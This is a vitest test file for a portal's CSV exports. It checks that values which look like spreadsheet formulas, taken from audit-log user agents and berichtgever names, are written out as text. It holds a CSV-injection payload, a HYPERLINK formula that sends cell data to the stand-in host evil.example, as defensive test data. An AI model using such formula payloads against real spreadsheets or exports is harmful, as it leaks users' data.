import { describe, expect, it, vi } from "vitest";
import type { TestDatabase } from "@/lib/db/database.testhulp";
import { metTestwereld, type Testwereld } from "@/lib/leveringen/testwereld.testhulp";

/**
 * What a visitor or a staff member can type ends up in the staff's spreadsheets: a user agent in
 * the audit log, a berichtgever's name in the monitor. Both exports go through lib/swi/tabel.ts,
 * which makes such a value text, never a formula.
 */
const sessie = vi.hoisted(() => ({ user: null as null | Record<string, unknown> }));
vi.mock("next-auth", () => ({ getServerSession: vi.fn(async () => (sessie.user ? { user: sessie.user } : null)) }));
vi.mock("@/lib/auth/options", () => ({ authOptions: () => ({}) }));

// The route handlers validate the portal's configuration (lib/env.ts) as at start-up.
process.env.NEXTAUTH_SECRET ??= "test-geheim-van-minstens-32-tekens-0123456789";
process.env.SMTP_URL ??= "smtp://127.0.0.1:2525";

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")';

let t: TestDatabase;
let w: Testwereld;
metTestwereld((td, tw) => {
  t = td;
  w = tw;
});

function alsCbs() {
  sessie.user = { id: w.cbs.userId, email: w.cbs.email, name: w.cbs.naam, rol: "CBS", berichtgeverId: null };
}

describe("exports with hostile values", () => {
  it("the audit log CSV writes a user agent that looks like a formula as text", async () => {
    alsCbs();
    await t.db.auditLog.create({
      data: { actie: "inloggen.aangevraagd", ip: "+31 6 1234", userAgent: HYPERLINK, actorEmail: "-x@example.nl" },
    });
    const { GET } = await import("@/app/beheer/audit/export/route");
    const res = await GET(new Request("http://localhost/beheer/audit/export"));
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain(`'=HYPERLINK(`);
    expect(csv).toContain(`'+31 6 1234`);
    expect(csv).toContain(`'-x@example.nl`);
    expect(csv).not.toMatch(/(^|;|")=HYPERLINK/m);
  });

  it("the monitor CSV writes a berichtgever's name that looks like a formula as text", async () => {
    alsCbs();
    await t.db.berichtgever.update({ where: { code: "9012" }, data: { naam: "@SUM(1+1)*cmd" } });
    const { GET } = await import("@/app/beheer/monitor/export/route");
    const res = await GET(new Request("http://localhost/beheer/monitor/export?kwartaal=2026-1"));
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(csv).toContain("'@SUM(1+1)*cmd");
    expect(csv).not.toMatch(/(^|;|")@SUM/m);
  });
});
